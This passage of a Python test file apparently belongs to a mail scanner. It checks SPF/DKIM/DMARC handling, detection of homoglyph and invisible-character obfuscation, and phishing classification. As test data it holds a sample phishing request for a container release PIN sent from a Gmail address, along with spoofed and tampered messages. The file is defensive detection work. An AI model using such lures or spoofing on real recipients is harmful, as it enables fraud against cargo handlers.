        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    import base64

    resolver = StaticResolver(
        {
            ("txt", "katoennatie.com"): ["v=spf1 ip4:192.0.2.0/24 -all"],
            ("txt", "_dmarc.katoennatie.com"): ["v=DMARC1; p=reject"],
            ("txt", "sel._domainkey.katoennatie.com"): [
                "v=DKIM1; k=rsa; p=" + base64.b64encode(pub).decode()
            ],
        }
    )
    ctx = AnalysisContext(resolver=resolver)
    raw = message()
    sig = dkim.sign(raw, b"sel", b"katoennatie.com", pem, include_headers=[b"from", b"subject"])
    good = Envelope("192.0.2.10", "mx.katoennatie.com", "bounce@katoennatie.com")
    passed = auth.analyse(parse_message(sig + raw), good, ctx)
    assert [(r.name, r.score) for r in passed] == [(auth.AUTHENTICATED, 0.0)]
    assert "DMARC passes" in passed[0].detail
    # Signed but sent from a host SPF does not allow: the aligned signature still authenticates.
    elsewhere = Envelope("203.0.113.9", "evil", "bounce@katoennatie.com")
    assert auth.AUTHENTICATED in names(auth.analyse(parse_message(sig + raw), elsewhere, ctx))
    bad = Envelope("203.0.113.9", "evil", "bounce@katoennatie.com")
    got = names(auth.analyse(parse_message(raw), bad, ctx))
    assert {"auth.spf_fail", "auth.dmarc_fail"} <= got
    assert auth.AUTHENTICATED not in got
    tampered = sig + raw.replace(b"Berth planning", b"Urgent payment")
    got = names(auth.analyse(parse_message(tampered), bad, ctx))
    assert "auth.dkim_fail" in got
    assert auth.AUTHENTICATED not in got
    assert auth.check_spf("192.0.2.1", "katoennatie.com", resolver) == "pass"


def test_obfuscated_words() -> None:
    from portguard.mail.analysers import obfuscation

    def found(**kw: str) -> set[str]:
        return names(obfuscation.analyse(parse_message(message(**kw)), Envelope(), CTX))

    # A Cyrillic "e" (U+0435) in a Latin word; a combining grapheme joiner between letters.
    assert found(subject="Nutrisyst\u0435m: lose weight now") == {"obfuscation.mixed_scripts"}
    assert found(sender="E\u034fV\u034fR\u034fi <a@b.example>") == {"obfuscation.invisible_chars"}
    # Legitimate text: accented French, whole Russian words, a newsletter's preheader padding
    # (invisible characters between words, not inside them), emoji.
    assert not found(text="Réunion à Zeebrugge: l'échéance du dépôt est reportée")
    assert not found(text="Привет, как дела? The meeting is at 10.")
    assert not found(text="Spring sale\u00a0\u034f \u200c\u00a0\u034f \u200c\u00a0 inside " * 5)
    assert not found(subject="Port day \U0001f6a2\u200d\u2642\ufe0f tickets")


def test_a_release_pin_request_from_a_free_mailbox_is_blocked_on_its_own() -> None:
    """PINs are not sent by e-mail any more (Certified Pick-up): asking for one from a free
    mailbox blocks, whatever the content model thinks of the wording."""
    from portguard.mail import Scanner

    raw = message(
        sender="Terminal Operations <ops.desk.mpet@gmail.com>",
        subject="Container release PIN needed - MSCU 7731042",
        text="Our trucker is at the gate. Please send us the release PIN for MSCU 7731042.",
    )
    _, verdict = Scanner(CTX).scan(raw)
    assert verdict.category.value == "phishing"
    partner = raw.replace(b"ops.desk.mpet@gmail.com", b"ops@katoennatie.com")
    assert Scanner(CTX).scan(partner)[1].category.value == "clean"  # needs more than the words
